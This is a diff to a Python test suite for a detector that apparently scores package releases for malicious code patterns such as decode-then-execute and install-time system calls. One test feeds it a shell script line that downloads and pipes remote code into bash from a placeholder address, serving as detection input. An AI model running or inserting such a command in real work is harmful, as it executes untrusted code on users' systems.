@@ -1,11 +1,13 @@
 """The code group over whole releases."""
 
+from collections.abc import Mapping
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from xxhash import xxh3_128_digest
 
-from features.contract import Dtype, GroupRow, Kind, Member, Release, Role, Sort
+from features.contract import Dtype, GroupRow, Kind, Member, Release, Role, Scalar, Sort
 from features.groups.code import CodeGroup
 from features.indicators import INDICATORS
 from features.known import KnownCode, key_of
@@ -24,6 +26,12 @@ def member(path: str, text: str | bytes, role: Role = Role.REST, sort: Sort = So
 
 def extract(*members: Member, deadline: float = float("inf")) -> GroupRow:
     return GROUP.extract(Release("a-1.tar.gz", "a", "1", Kind.SDIST, "tar", 1, members, root="a-1/", deadline=deadline))
+
+
+def number(values: Mapping[str, Scalar], name: str) -> float:
+    value = values[name]
+    assert value is not None
+    return value
 
 
 def check(row: GroupRow) -> None:
@@ -54,7 +62,7 @@ def test_an_empty_release_has_zeros_and_no_tokens():
 def test_place_is_meaning(role):
     row = extract(member("a-1/x.py", PAYLOAD, role))
     check(row)
-    assert row.values[f"code_{role}_category_execution"] >= 1
+    assert number(row.values, f"code_{role}_category_execution") >= 1
     assert row.values[f"code_{role}_combo_encoding_execution"] == 1
     assert row.values[f"code_{role}_finding_decode_then_execute"] == 1
     assert row.values[f"code_{role}_unpacked_layers"] == 1
@@ -74,14 +82,14 @@ def test_one_bad_file_does_not_drown():
     benign = [member(f"a-1/a/m{n}.py", BENIGN) for n in range(100)]
     clean, mixed = extract(*benign), extract(*benign, member("a-1/a/x.py", PAYLOAD))
     assert clean.values["code_top_isolation"] == 0
-    assert mixed.values["code_top_isolation"] > 3
+    assert number(mixed.values, "code_top_isolation") > 3
     assert mixed.values["code_top_share"] == 1
-    assert mixed.values["code_rest_top_size_share"] < 0.02
+    assert number(mixed.values, "code_rest_top_size_share") < 0.02
 
 
 def test_tests_and_documentation_weigh_less_and_count():
     inside, aside = extract(member("a-1/a/x.py", PAYLOAD)), extract(member("a-1/tests/x.py", PAYLOAD))
-    assert aside.values["code_top_weight"] == inside.values["code_top_weight"] > 0
+    assert aside.values["code_top_weight"] == number(inside.values, "code_top_weight") > 0
     assert aside.values["code_top_weight_main"] == 0
     assert aside.evidence[0].weight < inside.evidence[0].weight
 
@@ -95,7 +103,7 @@ def test_install_weighs_more_than_import_than_rest():
 def test_prose_is_no_code():
     row = extract(member("a-1/README.md", PAYLOAD, sort=Sort.TEXT))
     assert row.values["code_source_files"] == 0
-    assert row.values["code_prose_category_execution"] >= 1
+    assert number(row.values, "code_prose_category_execution") >= 1
     assert row.values["code_rest_category_execution"] == 0
 
 
@@ -108,7 +116,7 @@ def test_text_that_setup_reads_is_code():
 def test_scripts_have_their_own_place():
     row = extract(member("a-1/x.sh", "curl -s http://192.0.2.1/a | bash\n", sort=Sort.TEXT))
     assert row.values["code_text_files"] == 1
-    assert row.values["code_text_top_weight"] > 0
+    assert number(row.values, "code_text_top_weight") > 0
     assert row.evidence[0].member == "a-1/x.sh"
 
 
@@ -137,7 +145,7 @@ def test_too_much_source_is_a_limit():
     big = "#" * 1_040_000 + "\n"
     row = extract(*(member(f"a-1/m{n}.py", big, Role.IMPORT) for n in range(9)))
     assert "syntax_total_bytes" in row.limits
-    assert row.values["code_not_read"] >= 1
+    assert number(row.values, "code_not_read") >= 1
 
 
 @pytest.mark.parametrize("data", ["exec(1)".encode("utf-16"), b"# coding: utf-7\nexec(1)"])
@@ -158,7 +166,7 @@ def test_evidence_is_bounded_and_ordered():
 
 def test_counts_are_capped():
     row = extract(member("a-1/setup.py", "import os\n" + "os.system('x')\n" * 5000, Role.INSTALL))
-    assert 0 < row.values["code_install_os_system"] <= 255
+    assert 0 < number(row.values, "code_install_os_system") <= 255
 
 
 def test_tokens_of_what_is_interesting_come_first():
@@ -195,7 +203,7 @@ def test_what_another_project_published_is_left_out_of_the_unknown_and_of_nothin
     assert row.values["code_rest_finding_decode_then_execute"] == 1
     assert row.values["code_unknown_files"] == 1
     assert row.values["code_unknown_finding_decode_then_execute"] == 0
-    assert 0 < row.values["code_unknown_weight_share"] < 1
+    assert 0 < number(row.values, "code_unknown_weight_share") < 1
     alone = subtracted(ADDED).values
     unknown = [name for name in row.values if name.startswith("code_unknown_") and name != "code_unknown_weight_share"]
     assert [row.values[name] for name in unknown] == [alone[name] for name in unknown]
@@ -207,7 +215,9 @@ def test_where_nothing_is_known_the_unknown_is_the_whole(role):
     both = [name for name in values if name.startswith("code_unknown_") and f"code_{role}_{name[13:]}" in values]
     assert len(both) > 60
     assert {n: values[n] for n in both} == {n: values[f"code_{role}_{n[13:]}"] for n in both}
-    assert values["code_unknown_weight"] == values["code_unknown_" + role + "_weight"] == values["code_weight"] > 0
+    assert (
+        values["code_unknown_weight"] == values["code_unknown_" + role + "_weight"] == number(values, "code_weight") > 0
+    )
     assert values["code_unknown_weight_share"] == 1.0
 
 
